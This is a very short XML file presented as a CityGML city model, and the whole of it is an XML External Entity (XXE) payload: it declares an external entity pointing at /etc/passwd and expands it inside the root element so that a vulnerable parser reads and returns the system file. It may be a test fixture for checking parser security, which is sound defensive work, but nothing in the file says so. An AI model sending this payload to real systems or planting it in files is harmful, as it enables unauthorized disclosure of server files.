<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<core:CityModel xmlns:core="http://www.opengis.net/citygml/2.0">&x;</core:CityModel>